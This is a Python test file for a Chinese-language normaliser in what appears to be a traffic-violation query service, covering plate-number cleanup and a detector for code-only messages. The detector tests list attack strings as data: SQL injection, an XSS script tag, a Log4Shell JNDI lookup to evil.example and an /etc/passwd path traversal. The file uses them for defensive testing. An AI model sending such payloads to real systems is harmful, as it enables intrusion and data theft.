import pytest

from nlu.normalise import is_traditional, move_span, normalise, normalise_with_offsets


@pytest.mark.parametrize("raw, expected", [
    ("查一下魯B12345的違章", "查一下鲁B12345的违章"),
    ("查一下鲁Ｂ１２３４５的违章", "查一下鲁B12345的违章"),
    ("鲁B·12345有违章吗", "鲁B12345有违章吗"),
    ("鲁 b 1 2 3 4 5 违章", "鲁B12345 违章"),
    ("查鲁B幺二三四洞", "查鲁B12340"),
    ("查鲁b d 12345", "查鲁BD12345"),
    ("车架号后六位是幺二三四五拐", "车架号后六位是123457"),
    ("后6位６７２４１８", "后6位672418"),
    ("你好", "你好"),
    ("查一下违章", "查一下违章"),
    ("一二三四五", "一二三四五"),      # plain Chinese numerals stay words
    ("😀你好👍", "😀你好👍"),
    ("", ""),
])
def test_normalise(raw, expected):
    assert normalise(raw) == expected


def test_offsets_move_entity_spans():
    raw = "查一下魯Ｂ·１２３４５的違章"
    text, sources = normalise_with_offsets(raw)
    start, end = raw.index("魯"), raw.index("的")
    new = move_span(sources, start, end)
    assert text[new[0]:new[1]] == "鲁B12345"


def test_script_detection():
    assert is_traditional("查詢違章")
    assert not is_traditional("查询违章")
    assert not is_traditional("hello")


@pytest.mark.parametrize("text, code", [
    ("'; DROP TABLE vehicles; --", True),
    ("SELECT name FROM persons WHERE 1=1", True),
    ("<script>alert(1)</script>", True),
    ("${jndi:ldap://evil.example/a}", True),
    ("1' OR '1'='1", True),
    ("../../../../etc/passwd", True),
    # Chinese around the code: the model reads the words (a report may quote what it reports).
    ("车管所门口有黄牛，他的微信是'; DROP TABLE violations; --", False),
    ("select a plate", False),
    ("any update on R202611270039?", False),
    ("thank you very much", False),
    ("<3 thanks", False),
    ("", False),
])
def test_code_only_messages_are_recognised(text, code):
    from nlu.components import looks_like_code

    assert looks_like_code(text) is code
